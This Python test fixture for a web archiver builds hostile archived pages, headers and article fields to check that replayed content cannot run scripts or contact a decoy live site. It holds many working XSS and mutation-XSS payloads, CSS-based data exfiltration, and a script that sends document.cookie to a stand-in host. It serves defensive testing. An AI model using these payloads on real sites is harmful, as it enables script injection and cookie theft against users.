"""A hostile archive: pages that try to run scripts on the archive's origin and to reach their live site, which listens."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from archiver.model.article import Article, Extraction, Extractor, Image
from archiver.model.capture import Verdict
from tests.shelf import Noon, Shelf, later

HOST = "decoy.example"
READER = Extractor("archiver", "1")
SHOUT = "console.log('RAN');new Image().src='//HOST:PORT/ran';fetch('//HOST:PORT/stolen?'+document.cookie)"
"""What every script of this archive does: say so, ask the live site, and bring it the cookies."""
FIELD = "\"'></title></style></textarea></script><script>console.log('RAN')</script><img src=//HOST:PORT/field onerror=console.log('RAN')>{{7*7}}"


class Decoy:
    """The live site: it knows every path, and counts whatever reaches it: requests, bare connections, datagrams."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.came = threading.Condition()
        self.connections = 0
        self.datagrams = 0
        decoy = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with decoy.came:
                    decoy.requests.append(self.path)
                    decoy.came.notify_all()
                body = PAGES.get(self.path.partition("?")[0].lstrip("/"), "")
                kind = {"js": "text/javascript", "css": "text/css", "svg": "image/svg+xml"}
                data = decoy.fill(body).encode()
                self.close_connection = True
                self.send_response(200)
                self.send_header("Content-Type", kind.get(self.path.rpartition(".")[2], "text/html; charset=utf-8"))
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                with suppress(OSError):
                    self.wfile.write(data)

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args: object) -> None:
                """Nothing on the screen."""

        class Server(ThreadingHTTPServer):
            def get_request(self) -> tuple[socket.socket, tuple[str, int]]:
                decoy.connections += 1
                return super().get_request()

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self._stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._stun.bind(("127.0.0.1", self.port))
        self._threads = [
            threading.Thread(target=self._server.serve_forever, daemon=True),
            threading.Thread(target=self._listen, daemon=True),
        ]
        for thread in self._threads:
            thread.start()

    def _listen(self) -> None:
        while True:
            try:
                data, _ = self._stun.recvfrom(2000)
            except OSError:
                return
            if data == b"end":
                return
            self.datagrams += 1

    def fill(self, text: str) -> str:
        return text.replace("SHOUT", SHOUT).replace("HOST:PORT", f"{HOST}:{self.port}")

    def url(self, name: str) -> str:
        return f"http://{HOST}:{self.port}/{name}"

    @property
    def paths(self) -> set[str]:
        return {path.partition("?")[0] for path in self.requests}

    def wait_for(self, paths: set[str], *, seconds: float = 30) -> None:
        """Until all of these were asked for."""
        with self.came:
            assert self.came.wait_for(lambda: paths <= self.paths, seconds), sorted(paths - self.paths)

    def forget(self) -> None:
        self.requests.clear()
        self.connections = self.datagrams = 0

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"end", ("127.0.0.1", self.port))
        self._threads[1].join(10)
        self._stun.close()


PAGES: dict[str, str] = {
    "scripts.html": """<!doctype html><title>scripts</title><script>SHOUT</script><script src=//HOST:PORT/evil.js></script>
<script type=module>SHOUT</script><body onload="SHOUT"><img src=x onerror="SHOUT"><svg onload="SHOUT"><script>SHOUT</script></svg>
<svg><animate onbegin="SHOUT" attributeName=x dur=1s></svg><iframe src="javascript:parent.SHOUT"></iframe>
<iframe srcdoc="<script>SHOUT</script><img src=//HOST:PORT/srcdoc.png>"></iframe><details open ontoggle="SHOUT">x</details>
<iframe src="data:text/html,<script>SHOUT</script>"></iframe><input autofocus onfocus="SHOUT"><video><source onerror="SHOUT"></video>
<object data="data:text/html,<script>SHOUT</script>"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='SHOUT'/>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=SHOUT&gt;"></table></mtext></math>
<svg></p><style><a id="</style><img src=1 onerror=SHOUT>"></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror="SHOUT">
<noscript><p title="</noscript><img src=x onerror=SHOUT>"></noscript><xmp><p title="</xmp><img src=x onerror=SHOUT>"></xmp>
<template shadowrootmode=open><img src=x onerror="SHOUT"></template><marquee onstart="SHOUT">x</marquee>
<select><style><img src=x onerror="SHOUT"></style></select><a href="javascript:SHOUT" id=js>click</a>
<a href="&#106;ava&#115;cript:SHOUT" id=js2>click</a><svg><a xlink:href="javascript:SHOUT"><text y=20 id=js3>click</text></a></svg>
<math><mi href="javascript:SHOUT" id=js4>click</mi></math><button formaction="javascript:SHOUT" form=f id=js5>go</button>
<form id=f action="javascript:SHOUT"></form><a href=//HOST:PORT/blank target=_blank id=blank ping=//HOST:PORT/ping>blank</a>
<form action=//HOST:PORT/form method=post target=_blank><input type=submit id=submit></form><script>document.forms[0].submit()</script>
<a href=//HOST:PORT/down download id=down>down</a><a href=mailto:a@HOST id=mail>mail</a>""",
    "evil.js": "SHOUT",
    "leaks.html": """<!doctype html><html manifest=//HOST:PORT/appcache><head>
<base href=http://HOST:PORT/base/>
<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//only-dns.example>
<link rel=preconnect href=//HOST:PORT><link rel=preload as=image href=//HOST:PORT/preload.png><link rel=prefetch href=//HOST:PORT/prefetch>
<link rel=modulepreload href=//HOST:PORT/module.js><link rel=prerender href=//HOST:PORT/prerender><link rel=icon href=//HOST:PORT/icon>
<link rel=manifest href=//HOST:PORT/manifest><link rel=stylesheet href=//HOST:PORT/style.css><link rel="alternate stylesheet" href=//HOST:PORT/alt.css title=a>
<script type=speculationrules>{"prerender":[{"source":"list","urls":["http://HOST:PORT/speculate"]}]}</script>
<script type=importmap>{"imports":{"a":"http://HOST:PORT/import.js"}}</script>
<style>@import "//HOST:PORT/import.css"; @font-face{font-family:f;src:url(//HOST:PORT/font.woff)} body{background:url(//HOST:PORT/bg.png);font-family:f}
input[value^=s]{background:url(//HOST:PORT/exfil-s)} a:visited{background:url(//HOST:PORT/visited)} p::before{content:url(//HOST:PORT/content.png)}
li{list-style:url(//HOST:PORT/list.png)} b{cursor:url(//HOST:PORT/cur.cur),auto} i{mask:url(//HOST:PORT/m.svg#m);filter:url(//HOST:PORT/f.svg#f)}
em{background:image-set("//HOST:PORT/set.png" 1x)} u{background:\\75rl(//HOST:PORT/escaped.png)} @namespace x url(//HOST:PORT/ns);</style></head>
<body background=//HOST:PORT/body.png><p>x<li>x<b>x</b><i>x</i><em>x</em><u>x</u><input value=secret>
<img src=//HOST:PORT/img.png srcset="//HOST:PORT/srcset.png 2x"><img src=relative.png><picture><source srcset=//HOST:PORT/source.png><img></picture>
<img src=data:, data-src=//HOST:PORT/lazy.png class=lazyload><img lowsrc=//HOST:PORT/low.png dynsrc=//HOST:PORT/dyn.png src=//HOST:PORT/\\../back.png>
<image src=//HOST:PORT/image.png><input type=image src=//HOST:PORT/input.png><table background=//HOST:PORT/table.png><td background=//HOST:PORT/td.png>
</table><video src=//HOST:PORT/film.mp4 poster=//HOST:PORT/poster.png autoplay></video><audio src=//HOST:PORT/audio.mp3 autoplay></audio>
<video autoplay><source src=//HOST:PORT/film2.mp4><track default src=//HOST:PORT/track.vtt></video><iframe src=//HOST:PORT/frame.html></iframe>
<object data=//HOST:PORT/object.svg></object><embed src=//HOST:PORT/embed.svg><applet code=//HOST:PORT/applet archive=//HOST:PORT/a.jar></applet>
<svg><image href=//HOST:PORT/svg.png /><use href=//HOST:PORT/use.svg#x /><feImage href=//HOST:PORT/fe.png /><rect fill="url(//HOST:PORT/fill.svg#f)"/>
<style>@import "//HOST:PORT/svgimport.css"; rect{fill:url(//HOST:PORT/svgstyle.svg#a)}</style><image><set attributeName=href to=//HOST:PORT/set.png /></image></svg>
<div style="background:url(//HOST:PORT/inline.png)">x</div><div style="background:url('//HOST:PORT/inline2.png'">x</div>
<template shadowrootmode=open><img src=//HOST:PORT/shadow.png><style>:host{background:url(//HOST:PORT/host.png)}</style></template>
<noscript><img src=//HOST:PORT/noscript.png></noscript><iframe srcdoc="<link rel=stylesheet href=//HOST:PORT/srcdoc.css><meta http-equiv=refresh content='0;//HOST:PORT/inner'>"></iframe>
<portal src=//HOST:PORT/portal></portal><fencedframe src=//HOST:PORT/fenced></fencedframe><bgsound src=//HOST:PORT/bgsound>
<a href=//only-link.example/>link</a><blockquote cite=//HOST:PORT/cite>q</blockquote>
<svg><style><img src=//HOST:PORT/mxss.png></style></svg><math><annotation-xml encoding=text/html><img src=//HOST:PORT/mathml.png></math>""",
    "sockets.html": """<!doctype html><title>s</title><script>
const attempt = (f) => { try { const made = f(); if (made && made.catch) made.catch(() => 0); } catch (e) {} };
attempt(() => new WebSocket("ws://HOST:PORT/socket")); attempt(() => new EventSource("http://HOST:PORT/events"));
attempt(() => navigator.sendBeacon("http://HOST:PORT/beacon", "x")); attempt(() => navigator.serviceWorker.register("/sw.js"));
attempt(() => navigator.serviceWorker.register(location.pathname.replace("mp_", "id_").replace("sockets.html", "evil.js")));
attempt(() => new Worker("/evil.js")); attempt(() => new SharedWorker("/evil.js")); attempt(() => window.open("http://HOST:PORT/window"));
attempt(() => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT_ONLY"}]}); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); });
attempt(() => { top.location = "http://HOST:PORT/top"; }); attempt(() => { document.cookie = "planted=1;path=/"; });
attempt(() => fetch("/api/crawl", {method: "POST", body: "{}"}));
</script>""",
    "refresh.html": "<meta http-equiv=refresh content='0;url=//HOST:PORT/refresh'><p>x",
    "policy.html": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://HOST:PORT/csp-report\"><img src=//HOST:PORT/p.png>",
    "headers.html": "<p>Archived headers act on nothing.<img src=//HOST:PORT/headers.png>",
    "style.css": "@import '//HOST:PORT/deep.css'; body{background:url(//HOST:PORT/css-bg.png)} @font-face{font-family:z;src:url(//HOST:PORT/z.woff2)}",
    "evil.svg": """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="SHOUT"><script>SHOUT</script>
<script xlink:href="http://HOST:PORT/evil.js"/><image xlink:href="http://HOST:PORT/in-svg.png"/><foreignObject width="99" height="99">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:SHOUT"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="SHOUT"/></foreignObject>
<a xlink:href="javascript:SHOUT"><text y="20">x</text></a></svg>""",
    "page.xhtml": """<html xmlns="http://www.w3.org/1999/xhtml"><head><script>SHOUT</script></head><body onload="SHOUT"><img src="http://HOST:PORT/x.png"/>
<svg xmlns="http://www.w3.org/2000/svg"><script>SHOUT</script></svg></body></html>""",
}  # fmt: skip
HEADERS: dict[str, str] = {
    "headers.html": "Set-Cookie: stolen=1; Path=/\r\nRefresh: 0;url=http://HOST:PORT/refresh-header\r\n"
    "Link: <http://HOST:PORT/link.css>; rel=stylesheet, <http://HOST:PORT>; rel=preconnect, <http://HOST:PORT/l.js>; rel=preload; as=script\r\n"
    'Clear-Site-Data: "*"\r\nService-Worker-Allowed: /\r\nContent-Security-Policy: default-src *; report-uri http://HOST:PORT/report\r\n'
    'Report-To: {"group":"x","max_age":9,"endpoints":[{"url":"http://HOST:PORT/nel"}]}\r\nNEL: {"report_to":"x","max_age":9,"failure_fraction":1}\r\n'
    'X-DNS-Prefetch-Control: on\r\nAccess-Control-Allow-Origin: *\r\nSpeculation-Rules: "http://HOST:PORT/rules.json"\r\n'
    "X-Evil: FIELD\r\nFIELD: x\r\nSourceMap: http://HOST:PORT/map\r\n",
}  # fmt: skip
TYPES = {"css": "text/css", "svg": "image/svg+xml", "js": "text/javascript", "xhtml": "application/xhtml+xml"}


def fill_archive(shelf: Shelf, decoy: Decoy) -> list[str]:
    """Keep the hostile pages, some under hostile addresses; the URLs of all."""
    field = decoy.fill(FIELD)
    kept: list[str] = []
    for place, (name, body) in enumerate(PAGES.items()):
        kind = TYPES.get(name.rpartition(".")[2], "text/html; charset=utf-8")
        more = decoy.fill(HEADERS.get(name, "").replace("FIELD", field))
        text = decoy.fill(body).replace("PORT_ONLY", str(decoy.port))
        shelf.keep(
            decoy.url(name), text.encode(), at=later(days=place), headers=f"Content-Type: {kind}\r\n{more}".encode()
        )
        kept.append(decoy.url(name))
    for address in (f"q?{field}", f"path/{field}", "utf7?+ADw-script+AD4-"):
        capture = shelf.keep(decoy.url(address), b"<p>x", headers=f"Content-Type: text/html;{field}\r\n".encode())
        kept.append(capture.url)
    odd = shelf.keep(
        decoy.url("odd"), b"<script>console.log('RAN')</script>", headers=f"Content-Type: x/{field}\r\n".encode()
    )
    none = shelf.keep(decoy.url("none"), decoy.fill("<script>SHOUT</script>").encode(), headers=b"")
    away = shelf.keep(
        decoy.url("away"),
        status="302 " + field.replace("\n", ""),
        headers=decoy.fill("Location: http://HOST:PORT/gone\r\n").encode(),
    )
    cut = shelf.keep(decoy.url("broken"), b"x", status=f"404 {field}")
    return [*kept, odd.url, none.url, away.url, cut.url]


def fill_articles(shelf: Shelf, decoy: Decoy) -> None:
    """Every field of an article that the web controls is hostile."""
    field = decoy.fill(FIELD)
    for capture in list(shelf.catalog.captures.find()):
        if capture.mime != "text/html" or capture.status != 200:
            continue
        article = Article(
            title=f"hostile {field}",
            text=field,
            paragraphs=(field, "hostile words of the page"),
            authors=(field,),
            lead=field,
            section=field,
            tags=(field,),
            language=field[:20],
            images=(Image(decoy.url("article.png"), field, field),),
            canonical_url=f"javascript:{SHOUT}",
            alternates={"en": decoy.url("alternate"), field[:8]: "javascript:1"},
            source_url=f"javascript:{SHOUT}",
            source_name=field,
            publisher=field,
            word_count=9,
            extractor=READER,
        )
        shelf.catalog.articles.put(
            capture.record_id, Extraction(Verdict.ARTICLE, field, READER, article), at=Noon().now()
        )
        shelf.index.add(capture, article)


@contextmanager
def listening() -> Iterator[Decoy]:
    decoy = Decoy()
    try:
        yield decoy
    finally:
        decoy.close()
